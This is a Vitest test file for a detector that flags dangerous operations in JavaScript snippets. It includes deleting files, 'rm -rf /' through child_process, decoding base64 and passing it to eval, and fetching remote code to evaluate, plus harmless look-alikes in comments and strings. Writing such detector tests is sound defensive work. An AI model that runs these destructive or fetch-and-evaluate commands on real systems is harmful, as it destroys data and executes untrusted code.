import { describe, expect, it } from 'vitest'
import { recognised } from './recognised.ts'

const cases: readonly (readonly [string, readonly string[]])[] = [
  ["require('fs').rmSync(process.env.HOME + '/x')", ['delete /home/u/x']],
  ["require('node:fs').rmSync('/', { recursive: true })", ['delete all of /']],
  ["const { unlinkSync: gone } = require('fs'); gone('/a')", ['delete /a']],
  ["import { rm } from 'fs/promises'; await rm('/a', { recursive: true })", ['delete all of /a']],
  ["import fs from 'fs'; fs.promises.writeFile('/a', 'x')", ['write /a']],
  ["['/a', '/b'].forEach((f) => fs.unlinkSync(f))", ['delete /a', 'delete /b']],
  ["const o = { recursive: true }; fs.rm('/a', o, () => {})", ['delete all of /a']],
  ["require('child_process')['exec' + 'Sync']('rm -rf /')", ['script rm -rf /']],
  ["require('child_process').spawn('rm', ['-rf', '/'])", ['words rm -rf /']],
  ["require('child_process').spawn('rm', ['-rf', '/'], { shell: true })", ['script rm -rf /']],
  ["process.mainModule.require('child_process').exec('id')", ['script id']],
  ["eval(Buffer.from('MSsx', 'base64').toString())", ['javascript 1+1', 'does decodes', 'does evaluates']],
  ["new Function('return 1')()", ['javascript return 1', 'does evaluates']],
  ["fetch('https://e.test').then((r) => eval(r))", ['javascript ?', 'does network', 'does evaluates']],
  ["const [a, b] = ['/a', '/b']; fs.rmSync(b)", ['delete /b']],
  ['fs.rmSync(process.argv[1])', ['delete /first']],
  ['$`rm -rf /a`', ['script rm -rf /a']],
  ["Deno.removeSync('/a', { recursive: true })", ['delete all of /a']],
  ["Bun.spawn(['rm', '/a'])", ['words rm /a']],
]

const uncertain: readonly (readonly [string, readonly string[]])[] = [
  ['fs.rmSync(path)', ['delete ?']],
  ["for (const f of fs.readdirSync('/a')) fs.unlinkSync(`/a/${f}`)", ['delete /a/?']],
  ["require('child_process').execSync(command)", ['script ?', 'does evaluates']],
  ["require('child_process').spawn('rm', args)", ['words rm ?']],
]

const harmless: readonly string[] = [
  'console.log("fs.rmSync(\'/\')")',
  "// fs.rmSync('/')",
  "/* require('child_process').exec('rm -rf /') */",
  'const re = /fs.rmSync("x")/g',
  'console.log(`rm -rf /`)',
  'const exec = 1, rm = { recursive: true }; console.log(exec / 2, rm)',
]

describe('javascript', () => {
  it.each(cases)('recognises %s', (text, found) => {
    expect(recognised('javascript', text)).toEqual(found)
  })

  it.each(uncertain)('reports unknown parts of %s', (text, found) => {
    expect(recognised('javascript', text)).toEqual(found)
  })

  it.each(harmless)('finds nothing in %s', (text) => {
    expect(recognised('javascript', text)).toEqual([])
  })
})
